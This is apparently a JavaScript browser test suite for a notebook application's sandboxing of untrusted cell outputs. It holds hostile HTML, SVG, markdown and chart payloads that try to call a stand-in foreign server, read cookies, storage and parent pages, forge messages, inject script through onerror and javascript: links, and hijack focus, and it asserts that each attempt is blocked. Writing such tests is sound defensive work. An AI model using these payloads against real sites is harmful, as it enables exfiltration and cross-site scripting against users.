// An output written to do harm: it asks nobody for anything, reads nothing, leads nowhere, covers nothing, and cannot
// take the page down with it. It says in its own frame what it managed.

import assert from 'node:assert/strict';
import { createSocket } from 'node:dgram';
import { createServer } from 'node:net';
import { after, test } from 'node:test';

import { eventually } from './kit/eventually.mjs';
import { code, display, stream } from './kit/gallery.mjs';
import { keepPages } from './kit/people.mjs';
import { stage } from './kit/stage.mjs';

keepPages();

const { server, join } = await stage();

/** Somebody else's computer: who connects to it, or sends it a packet, is noted before a word is spoken. */
const reached = [];
const foreign = createServer((socket) => {
  reached.push('connection');
  socket.on('data', (said) => reached.push(String(said).split('\r\n', 1)[0])).on('error', () => socket.destroy());
});
const packets = createSocket('udp4').on('message', () => reached.push('packet'));
await new Promise((resolve) => foreign.listen(0, '127.0.0.1', resolve));
await new Promise((resolve) => packets.bind(foreign.address().port, '127.0.0.1', resolve));
after(() => (foreign.close(), packets.close()));
const HOST = `127.0.0.1:${foreign.address().port}`;
const FOREIGN = `http://${HOST}`;

async function written(cells) {
  const { id } = await server.rest('POST', 'notebooks/import?title=Hostile', JSON.stringify({ nbformat: 4, nbformat_minor: 4, metadata: {}, cells }));
  return id;
}

async function open(t, cells) {
  const person = await join(t, 'Anna');
  await person.open(await written(cells));
  await person.until('saved');
  return { person, order: await person.order() };
}

/** After so many an output that loads itself again is stopped. */
const MOST_RELOADS = 3;
const html = (text) => code('hostile', [display({ 'text/html': text, 'text/plain': 'what it would have been' })]);
const inner = (person, id) => person.cell(id).box.frameLocator('iframe');

/** Tries everything by which a page asks another computer, then says that it has. */
const ASKING = `
<link rel="preconnect" href="${FOREIGN}"><link rel="dns-prefetch" href="${FOREIGN}"><link rel="prefetch" href="${FOREIGN}/prefetch"><link rel="preload" as="script" href="${FOREIGN}/preload"><link rel="modulepreload" href="${FOREIGN}/module"><link rel="stylesheet" href="${FOREIGN}/style"><link rel="icon" href="${FOREIGN}/icon"><link rel="manifest" href="${FOREIGN}/manifest">
<style>@import "${FOREIGN}/import"; @font-face { font-family: f; src: url(${FOREIGN}/font) } p { font-family: f; background: url(${FOREIGN}/background); cursor: url(${FOREIGN}/cursor), auto; list-style: url(${FOREIGN}/list) }</style>
<p>p</p><img src="${FOREIGN}/image"><img srcset="${FOREIGN}/set 2x"><picture><source srcset="${FOREIGN}/source"><img></picture>
<video src="${FOREIGN}/video" poster="${FOREIGN}/poster" autoplay></video><audio src="${FOREIGN}/audio" autoplay></audio><video autoplay><track default src="${FOREIGN}/track"></video>
<iframe src="${FOREIGN}/frame"></iframe><iframe srcdoc="<img src='${FOREIGN}/srcdoc'><script>fetch('${FOREIGN}/srcdoc-fetch')</script>"></iframe><object data="${FOREIGN}/object"></object><embed src="${FOREIGN}/embed">
<svg><image href="${FOREIGN}/svg"/><use href="${FOREIGN}/use#x"/><filter><feImage href="${FOREIGN}/feimage"/></filter></svg>
<form id="form" action="${FOREIGN}/form" target="_top"><input name="a" value="b"></form>
<a id="top" href="${FOREIGN}/top" target="_top">top</a><a id="blank" href="${FOREIGN}/blank" target="_blank" ping="${FOREIGN}/ping">blank</a><a id="file" href="${FOREIGN}/file" download>file</a>
<p id="told">asleep</p>
<script>
const attempt = (action) => { try { return action(); } catch { return undefined; } };
const calls = [
  () => fetch('${FOREIGN}/fetch').catch(() => {}), () => fetch('${server.origin}/api/notebooks').catch(() => {}),
  () => fetch('${FOREIGN}/no-cors', { mode: 'no-cors', keepalive: true }).catch(() => {}),
  () => { const x = new XMLHttpRequest(); x.open('GET', '${FOREIGN}/xhr'); x.send(); },
  () => navigator.sendBeacon('${FOREIGN}/beacon', 'x'), () => new WebSocket('ws://${HOST}/socket'), () => new WebSocket('${server.origin.replace('http', 'ws')}/ws/default'),
  () => new EventSource('${FOREIGN}/events'), () => import('${FOREIGN}/import.js').catch(() => {}),
  () => new Worker(URL.createObjectURL(new Blob(["fetch('${FOREIGN}/worker'); importScripts('${FOREIGN}/worker-import')"]))),
  () => new SharedWorker('${FOREIGN}/shared'), () => navigator.serviceWorker.register('${server.origin}/service-worker.js').catch(() => {}),
  () => (new Image().src = '${FOREIGN}/new-image'), () => open('${FOREIGN}/open'), () => open('${server.origin}/'),
  () => (top.location = '${FOREIGN}/top-location'), () => (parent.location.href = '${FOREIGN}/parent-location'),
  () => top.history.back(), () => top.close(),
  () => document.getElementById('form').submit(), () => document.getElementById('top').click(), () => document.getElementById('blank').click(), () => document.getElementById('file').click(),
  () => new FontFace('g', 'url(${FOREIGN}/fontface)').load().catch(() => {}),
  () => { const s = document.createElement('script'); s.src = '${FOREIGN}/script'; document.head.append(s); },
  () => { const s = document.createElement('script'); s.src = '${server.origin}/docs/reference.js'; document.head.append(s); },
  () => call(window.RTCPeerConnection),
  () => { const f = document.createElement('iframe'); document.body.append(f); call(f.contentWindow.RTCPeerConnection); },
  () => new WebTransport('https://${HOST}/transport').ready.catch(() => {}),
];
function call(Connection) {
  const connection = new Connection({ iceServers: [{ urls: 'stun:${HOST}' }] });
  connection.createDataChannel('x');
  connection.createOffer().then((offer) => connection.setLocalDescription(offer));
}
calls.forEach(attempt);
document.getElementById('told').textContent = 'tried ' + calls.length;
</script>`;

/** Tells what it could read. */
const READING = `<p id="told">asleep</p><script>
const reads = {
  parent: () => parent.document.title, top: () => top.document.body, address: () => parent.location.href, cookie: () => document.cookie, storage: () => localStorage.length, session: () => sessionStorage.length,
  databases: () => indexedDB.open('x'), mark: () => (parent.hurt = 1), opener: () => window.opener.name, element: () => window.frameElement.id,
  brother: () => { for (let index = 0; index < parent.frames.length; index += 1) if (parent.frames[index] !== window) return parent.frames[index].document.body; throw 0; },
  referrer: () => { if (document.referrer === '') throw 0; }, clipboard: () => { if (document.execCommand('paste')) return 1; throw 0; },
  caches: () => caches.keys, alert: () => { if (confirm('?')) return 1; throw 0; },
};
const got = Object.entries(reads).filter(([, read]) => { try { return read() !== undefined; } catch { return false; } }).map(([name]) => name);
document.getElementById('told').textContent = 'got: ' + got.join(' ');
</script>`;

test('ln_08_a_hostile_output_makes_no_request_at_all', async (t) => {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="20" height="20"><style>@import "${FOREIGN}/svg-import";</style><image href="${FOREIGN}/svg-image"/><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="${FOREIGN}/svg-foreign"/></foreignObject><script href="${FOREIGN}/svg-script"/></svg>`;
  const markdown = `markdown is here ![x](${FOREIGN}/md) <img src="${FOREIGN}/md-image"> <link rel="preconnect" href="${FOREIGN}"> <video src="${FOREIGN}/md-video" poster="${FOREIGN}/md-poster"></video> <table background="${FOREIGN}/md-table"><tr><td>x</td></tr></table> <svg><image href="${FOREIGN}/md-svg"/></svg> $\\includegraphics{${FOREIGN}/md-math}$ [ref]: ${FOREIGN}/md-ref`;
  const { person, order } = await open(t, [
    html(ASKING),
    code('svg', [display({ 'image/svg+xml': svg })]),
    code('markdown', [display({ 'text/markdown': markdown })]),
    code('ansi', [stream(`\u001b]8;;${FOREIGN}/ansi\u001b\\ansi is here\u001b]8;;\u001b\\ \u001b]1337;File=inline=1:AAAA\u0007 \u001b[5i`)]),
    code('json', [display({ 'application/json': { html: `<img src="${FOREIGN}/json">`, __proto__: { polluted: 1 }, url: `${FOREIGN}/json-url` } })]),
    code('vega', [display({ 'application/vnd.vegalite.v6+json': { title: 'vega is here', data: { url: `${FOREIGN}/vega-data.json` }, mark: { type: 'image', url: `${FOREIGN}/vega-image` }, encoding: { x: { field: 'a' }, href: { value: `${FOREIGN}/vega-link` } }, usermeta: { embedOptions: { config: `${FOREIGN}/vega-config`, patch: `${FOREIGN}/vega-patch`, loader: {} } } } })]),
    code('plotly', [display({ 'application/vnd.plotly.v1+json': { data: [{ type: 'scatter', y: [1, 2] }, { type: 'choropleth', locations: ['FRA'], z: [1] }], layout: { title: { text: 'plotly is here' }, images: [{ source: `${FOREIGN}/plotly-image`, x: 0, y: 1, sizex: 1, sizey: 1 }] }, config: { plotlyServerURL: FOREIGN, topojsonURL: `${FOREIGN}/topojson/`, showSendToCloud: true } } })]),
    html(`<meta http-equiv="refresh" content="0;url=${FOREIGN}/refresh"><script>location = '${FOREIGN}/location'</script>`),
  ]);
  await inner(person, order[0]).getByText(/^tried \d\d/).waitFor();
  await person.cell(order[1]).box.locator('img').waitFor();
  await person.cell(order[2]).box.getByText('markdown is here').waitFor();
  await person.cell(order[3]).box.getByText('ansi is here').waitFor();
  await person.cell(order[4]).box.getByRole('treeitem', { name: /html/ }).waitFor();
  // With nothing to be had from anybody, a chart is either drawn without it or said not to be.
  for (const [at, drawn] of [[5, 'vega is here'], [6, 'plotly is here']]) {
    const { box } = person.cell(order[at]);
    await box.scrollIntoViewIfNeeded();
    await Promise.any([inner(person, order[at]).getByText(drawn).waitFor(), box.getByText('It could not be drawn').waitFor()]);
  }
  // What was begun has had its chance: round trips of the page, and of a frame that is let through.
  for (let round = 0; round < 5; round += 1) await person.page.evaluate(() => fetch('healthz', { cache: 'no-store' }).then((answer) => answer.text()));
  assert.equal(new URL(person.page.url()).pathname.startsWith('/notebook/'), true, 'the page is where it was');
  assert.equal(person.context.pages().length, 1, 'no window was opened');
  assert.deepEqual([...new Set(reached)], []);
});

test('ln_08_a_page_inside_a_hostile_output_calls_nobody', async (t) => {
  const call = `const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${HOST}' }] }); c.createDataChannel('x'); c.createOffer().then((offer) => c.setLocalDescription(offer)); parent.postMessage('called', '*')`;
  const nested = `<p>nested</p><iframe srcdoc="<script>${call}</script>"></iframe><script>addEventListener('message', ({ data }) => data === 'called' && document.body.append('it has called'))</script>`;
  const person = await join(t, 'Anna');
  // Chromium ends the process of the outputs instead of letting the call out; Playwright takes that for the end of the page.
  const ended = new Promise((resolve) => person.page.once('crash', resolve));
  await person.page.goto(`${person.base}notebook/${await written([html(nested)])}`);
  const called = person.page.frameLocator('iframe').getByText('it has called').waitFor();
  await Promise.race([ended, called.catch(() => ended)]);
  assert.deepEqual([...new Set(reached)], []);
});

test('ln_08_a_hostile_output_reads_nothing', async (t) => {
  const { person, order } = await open(t, [html(READING), html('<p>a brother with a secret</p>')]);
  await inner(person, order[1]).getByText('a brother with a secret').waitFor();
  await inner(person, order[0]).getByText(/^got:/).waitFor();
  assert.equal(await inner(person, order[0]).locator('#told').innerText(), 'got:');
  assert.equal(await person.page.evaluate(() => window.hurt), undefined);
});

test('ln_08_a_hostile_output_covers_nothing_and_forges_nothing', async (t) => {
  const forge = `<script>
    for (let index = 0; index < 9; index += 1) parent.frames[index]?.postMessage({ kind: 'show', html: 'forged', scheme: 'dark', properties: {} }, '*');
    for (const message of [{ kind: 'height', height: 1e9 }, { kind: 'height', height: -1 }, { kind: 'height', height: Infinity }, { kind: 'link', address: 'javascript:hurt()' }, { kind: 'link', address: 'https://example.org/claimed' }, null, 'x', { kind: 'run' }, { kind: 'blocked', host: '<b>forged</b>' }]) parent.postMessage(message, '*');
  </script><p style="position: fixed; inset: -9999px; background: red; height: 99999px; z-index: 99999">cover</p><p>forging</p>`;
  const { person, order } = await open(t, [html('<p>honest</p>'), html(forge), code('print(1)', [])]);
  await inner(person, order[1]).getByText('forging').waitFor();
  const honest = await person.cell(order[0]).box.locator('iframe').evaluate((frame) => frame.getBoundingClientRect().height);
  assert.ok(honest > 10 && honest < 200, `the brother is as high as it is: ${honest}`);
  assert.equal(await inner(person, order[0]).locator('body').innerText(), 'honest');
  const box = await person.cell(order[1]).box.locator('iframe').evaluate((frame) => ({ high: frame.getBoundingClientRect().height, wide: frame.getBoundingClientRect().width, cell: frame.closest('article').getBoundingClientRect().width }));
  assert.ok(box.high <= 2000 && box.wide <= box.cell, JSON.stringify(box));
  assert.equal(await person.toast('links to').count(), 0, 'a claimed click offers nothing');
  assert.equal(await person.page.getByText('forged').count(), 0);
});

test('ln_08_a_flood_of_messages_stops_the_output_and_not_the_page', async (t) => {
  const flood = `<p>flooding</p><script>setInterval(() => { for (let index = 0; index < 500; index += 1) parent.postMessage({ kind: 'height', height: index, padding: 'x'.repeat(1000) }, '*'); }, 1)</script>`;
  const { person, order } = await open(t, [code('print(1)', []), html(flood)]);
  await person.cell(order[1]).box.getByText('This output was stopped').waitFor();
  await person.cell(order[1]).box.getByText('what it would have been').waitFor();
  assert.equal(await person.cell(order[1]).box.locator('iframe').count(), 0);
  await person.cell(order[0]).caretAtEnd();
  await person.type(' + 1');
  await person.cell(order[0]).shows('print(1) + 1');
});

test('ln_08_an_output_that_never_ends_its_script_or_its_growth_leaves_the_page_usable', async (t) => {
  // Outputs share a process of their own, apart from the page's: one that spins holds up the others and not the page.
  const grows = '<div id="grow" style="height: calc(100vh + 50px)">grows</div>';
  const spins = '<p>spins</p><button id="spin" onclick="for (;;);">spin</button>';
  const { person, order } = await open(t, [code('print(1)', []), html(grows), html(spins), html('<p>reloads</p><script>location.reload()</script>')]);
  await inner(person, order[1]).getByText('grows').waitFor();
  await inner(person, order[2]).locator('#spin').click({ noWaitAfter: true, timeout: 2000 }).catch(() => undefined);
  await person.cell(order[0]).caretAtEnd();
  await person.type(' + 1');
  await person.cell(order[0]).shows('print(1) + 1');
  const height = await person.cell(order[1]).box.locator('iframe').evaluate((frame) => frame.getBoundingClientRect().height);
  assert.ok(height <= 2000, `${height}`);
  const loads = person.requests.filter((address) => address.endsWith('/frame.html')).length;
  assert.ok(loads <= order.length - 1 + MOST_RELOADS, `frames were loaded ${loads} times`);
});

test('ln_17_an_output_that_takes_the_focus_is_stopped_and_the_editor_has_it_again', async (t) => {
  const thief = `<input id="trap" autofocus><script>setInterval(() => { focus(); document.getElementById('trap').focus(); }, 30)</script>`;
  const { person, order } = await open(t, [code('', []), html(thief)]);
  await person.cell(order[0]).caretAtEnd();
  await person.cell(order[1]).box.getByText('This output was stopped').waitFor();
  const sentence = 'every character of this goes where it was meant to go';
  await person.type(sentence, 25);
  await person.cell(order[0]).shows(sentence);
});

test('a_link_in_an_output_is_opened_by_a_person_who_has_seen_where_it_leads', async (t) => {
  const { person, order } = await open(t, [html(`<a href="${FOREIGN}/manual">the manual</a>`)]);
  await inner(person, order[0]).getByText('the manual').click();
  const toast = person.toast(`${FOREIGN}/manual`);
  await toast.waitFor();
  await toast.getByRole('button', { name: 'Open' }).click();
  await eventually(() => reached.includes('GET /manual HTTP/1.1'), 'it opens in a tab of its own');
});

const COMPILES = "<p id=told></p><script>try { Function('return 1')(); told.textContent = 'compiled'; } catch { told.textContent = 'refused'; }</script>";

test('ln_08_a_hostile_chart_runs_nothing_in_the_page_and_compiles_nothing_in_its_frame', async (t) => {
  const script = "parent.hurt = 1, fetch('/api/notebooks')";
  const vega = { title: `<img src=x onerror="${script}">`, data: { values: [{ a: 1 }] }, transform: [{ calculate: `(function(){${script}})()`, as: 'b' }], mark: 'bar', encoding: { x: { field: 'a' } } };
  const plotly = { data: [{ y: [1, 2], hovertemplate: `<a href="javascript:${script}">x</a>`, text: [`<b onclick="${script}">drawn</b>`], mode: 'text' }], layout: { title: { text: `<a href="javascript:${script}">title</a>` } } };
  const { person, order } = await open(t, [code('vega', [display({ 'application/vnd.vegalite.v6+json': vega })]), code('plotly', [display({ 'application/vnd.plotly.v1+json': plotly })]), code('compile', [display({ 'text/html': COMPILES })])]);
  await person.cell(order[0]).box.getByText('It could not be drawn').waitFor();
  const link = inner(person, order[1]).getByText('title');
  await link.waitFor();
  await link.click({ force: true });
  assert.equal(await person.page.evaluate(() => window.hurt), undefined);
  await inner(person, order[2]).getByText('refused').waitFor();
});
